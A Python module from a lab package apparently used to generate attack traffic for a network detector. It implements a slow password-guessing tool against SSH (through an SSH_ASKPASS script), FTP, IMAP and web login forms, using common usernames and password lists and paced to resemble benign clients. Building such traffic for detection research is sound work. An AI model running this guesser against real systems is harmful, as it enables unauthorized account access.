"""Our own guesser: a few passwords on each connection, at a pace that can be as slow as a forgetful person's.

Options: `service` (ftp, ssh, form, imap), `tries` [1, 3] on each connection, `gap_s` [0.2, 1] between them, `user`
(any of those that are often tried), and when the connections come: `sessions` or `every_s`, as for benign clients.
"""

from __future__ import annotations

import ftplib
import imaplib
from collections.abc import Callable, Iterator
from contextlib import closing
from pathlib import Path

from netwarden.lab.attacks import targets
from netwarden.lab.clients import ssh_tools, tools, web
from netwarden.lab.clients.sessions import TIMEOUT_S, Session, play

PACKAGES = ("ssh=openssh-client",)


def session(s: Session) -> None:
    _SERVICES[s.option("service")](s)


def _guesses(s: Session) -> Iterator[tuple[str, str]]:
    """Users and passwords, at their pace; counted."""
    for _ in range(round(s.between("tries", 1, 3))):
        s.count(tries=1)
        yield _user(s), s.rng.choice(targets.passwords(s.rng, 60))
        if not s.pause(s.between("gap_s", 0.2, 1)):
            return


def _user(s: Session) -> str:
    return str(s.option("user") or s.rng.choice(targets.USERS))


def _ssh(s: Session) -> None:
    """All guesses over one connection: whenever OpenSSH's client asks, a script says the next."""
    user, tries = _user(s), round(s.between("tries", 1, 3))
    guesses, script = Path(f"guesses-{s.number}"), Path(f"guess-{s.number}")
    guesses.write_text("".join(f"{s.rng.choice(targets.passwords(s.rng, 60))}\n" for _ in range(tries)))
    gap_s = s.between("gap_s", 0.2, 1)
    script.write_text(f"#!/bin/sh\nsleep {gap_s:.2f}\nhead -n 1 {guesses.resolve()}\nsed -i 1d {guesses.resolve()}\n")
    script.chmod(0o700)
    environment = {**ssh_tools.answer_password(s, user, "-"), "SSH_ASKPASS": str(script.resolve())}
    words = ["ssh", "-o", f"NumberOfPasswordPrompts={tries}", *ssh_tools.options(s), f"{user}@{s.address}", "true"]
    s.count(tries=tries, found=int(tools.run(s, words, environment) == 0))


def _ftp(s: Session) -> None:
    with ftplib.FTP(timeout=TIMEOUT_S) as ftp:  # noqa: S321 - in the lab only, where FTP is what we want to see
        ftp.connect(s.address, s.port or 21)
        for user, password in _guesses(s):
            try:
                ftp.login(user, password)
                s.count(found=1)
            except ftplib.error_perm:
                s.count(refused=1)


def _form(s: Session) -> None:
    with closing(web.connection(s)) as over:
        for user, password in _guesses(s):
            form = f"user={user}&password={password}".encode()
            s.count(found=int(web.fetch(s, over, "/login", "POST", form).status == 302))


def _imap(s: Session) -> None:
    kind = imaplib.IMAP4_SSL if s.option("tls") else imaplib.IMAP4
    with kind(s.address, s.port or 143, timeout=TIMEOUT_S) as mailbox:
        for user, password in _guesses(s):
            try:
                mailbox.login(user, f'"{password}"')
                s.count(found=1)
                return
            except imaplib.IMAP4.error:
                s.count(refused=1)


_SERVICES: dict[str, Callable[[Session], None]] = {"ssh": _ssh, "ftp": _ftp, "form": _form, "imap": _imap}


def main() -> None:
    play(session, (*web.FAILS_WITH, ftplib.Error, imaplib.IMAP4.error))


if __name__ == "__main__":
    main()
